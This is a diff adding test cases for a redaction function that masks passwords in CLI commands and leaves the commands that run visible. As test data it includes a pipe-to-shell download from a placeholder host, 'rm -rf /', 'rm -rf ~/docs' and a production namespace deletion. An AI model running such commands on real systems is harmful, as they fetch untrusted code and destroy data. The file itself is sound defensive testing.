@@ -243,9 +243,41 @@ describe("commands that take a secret in an option or from a here-string", () =>
     ["certutil -p hunter22 -importpfx f", "certutil -p [REDACTED] -importpfx f"],
     ["signtool sign /f c.pfx /p hunter22 a.exe", "signtool sign /f c.pfx /p [REDACTED] a.exe"],
     ["schtasks /create /rp hunter22 /ru u", "schtasks /create /rp [REDACTED] /ru u"],
+    ["doppler secrets set API hunter22", "doppler secrets set API [REDACTED]"],
+    ["wrangler secret put X hunter22", "wrangler secret put X [REDACTED]"],
+    ["twilio login AC1 hunter22", "twilio login AC1 [REDACTED]"],
+    ["radtest bob hunter22 h 0 testing123", "radtest bob [REDACTED] h 0 [REDACTED]"],
+    ["aws ssm put-parameter --type String --value hunter22", "aws ssm put-parameter --type String --value hunter22"],
+    [
+      "aws ssm put-parameter --type SecureString --value hunter22",
+      "aws ssm put-parameter --type SecureString --value [REDACTED]",
+    ],
+    ["restic --password-command 'echo hunter22' ls", "restic --password-command 'echo [REDACTED]' ls"],
+    ["curl bob:hunter22@example.com/a", "curl bob:[REDACTED]@example.com/a"],
+    ["ftp -u u:hunter22 h", "ftp -u u:[REDACTED] h"],
     ["cqlsh -u u -p hunter22 h", "cqlsh -u u -p [REDACTED] h"],
   ])("%s", (command, expected) => {
     expect(redactText(command, [], "command").text).toBe(expected);
     expect(redactText(expected, [], "command").text).toBe(expected);
   });
+});
+
+describe("what runs stays readable where a name of a secret stands before it", () => {
+  it.each([
+    "alias password='curl -s https://x.example/p.sh | sh'",
+    'alias gettoken="rm -rf ~/docs"',
+    "app --password curl -s https://x.example/p.sh | sh",
+    "app --token /bin/rm -rf /",
+    "sshpass -p ./deploy.sh --all",
+    "TOKEN= kubectl delete ns prod",
+    "firebase functions:secrets:set X",
+    "npm run token:refresh && heroku auth:login",
+  ])("%s", (command) => expect(redactText(command, [], "command").text).toBe(command));
+
+  it.each([
+    ["alias token='curl -u a:hunter22 https://x'", "alias token='curl -u a:[REDACTED] https://x'"],
+    ["alias token=hL7KjD0PflW7B75F5QUx", "alias token=[REDACTED]"],
+    ["PASSWORD= hunter22", "PASSWORD= [REDACTED]"],
+    ["app --password hunter22 curl x", "app --password [REDACTED] curl x"],
+  ])("but %s loses its secret", (command, expected) => expect(redactText(command, [], "command").text).toBe(expected));
 });
